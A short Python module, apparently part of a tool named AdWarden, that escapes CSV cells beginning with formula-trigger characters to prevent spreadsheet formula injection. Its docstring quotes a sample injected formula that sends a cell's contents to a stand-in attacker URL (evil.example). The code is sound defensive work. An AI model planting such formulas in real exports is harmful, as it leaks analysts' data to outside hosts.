"""CSV cells that a spreadsheet cannot run: one neutraliser for every CSV AdWarden writes.

Categories, identifiers and names come from ad text an adversary wrote; a cell such as
``=HYPERLINK("https://evil.example/?"&A1,"click")`` is executed by Excel or LibreOffice when an analyst opens
the export (CSV injection, OWASP). Cells that begin with ``=``, ``+``, ``-``, ``@``, tab or carriage return are
prefixed with ``'`` so they are shown as text, except plain numbers (``-3``, ``+12065550147``), which
spreadsheets read as numbers anyway.

>>> spreadsheet_cell('=HYPERLINK("https://evil.example")')
'\\'=HYPERLINK("https://evil.example")'
>>> spreadsheet_cell("+12065550147")
'+12065550147'
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def spreadsheet_cell(value: Any) -> str:
    text = "" if value is None else str(value)
    if text.startswith(_TRIGGERS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def spreadsheet_row(values: Iterable[Any]) -> list[str]:
    return [spreadsheet_cell(v) for v in values]
